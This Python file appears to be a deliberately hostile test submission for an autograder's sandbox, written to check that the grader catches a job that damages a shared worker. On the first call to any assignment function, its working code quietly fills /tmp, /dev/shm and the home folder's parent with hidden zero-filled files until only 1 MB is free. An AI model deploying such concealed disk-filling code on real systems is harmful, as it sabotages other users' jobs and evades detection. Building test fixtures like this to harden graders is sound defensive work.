# Hostile submission (the first of a pair on one warm worker): the stealthy variant of
# tmp_filler.py. At its first call it leaves /tmp's listing unchanged and hides the
# bulk in a dot-folder inside /tmp's existing entries and wherever else it
# can write (the home folder's parent, /dev/shm), keeping 1 MB free so that only a
# later job's larger outputs fail. It implements nothing. Expected: it earns nothing
# and the next submission keeps full marks (the worker's free space and inodes on
# every writable file system are compared after each job).
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os

_SPARE = 1048576  # bytes left free
_DONE = []  # the attack runs once, at the first call


def _fill(folder):
    try:
        os.makedirs(folder, exist_ok=True)
        stats = os.statvfs(folder)
    except OSError:
        return
    left = stats.f_bavail * stats.f_frsize - _SPARE
    n = 0
    while left > 0:
        size = min(left, 32 << 20)
        try:
            with open(os.path.join(folder, f".cache-{n}"), "wb") as f:
                f.write(b"\0" * size)
        except OSError:
            break
        left -= size
        n += 1



def _attack():
    if _DONE:
        return
    _DONE.append(True)
    places = [os.path.join(os.path.dirname(os.path.dirname(os.getcwd())), ".hidden")]
    places += [os.path.join("/tmp", e, ".hidden") for e in os.listdir("/tmp")]
    places += ["/tmp/.hidden", "/dev/shm/.hidden"]
    for place in places:
        _fill(place)
    print("tmp_filler_stealthy: hid the filling")


def forward(params, X):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def cost(params, X, Y, C):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def gradients(params, X, Y, C):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def momentum_step(params, grads, rho_prev, eta, alpha):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def learning_rate(eta0, d, epoch):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def one_hot(y, K):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def predict(params, X):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    _attack()
    raise NotImplementedError("tmp_filler_stealthy implements nothing")
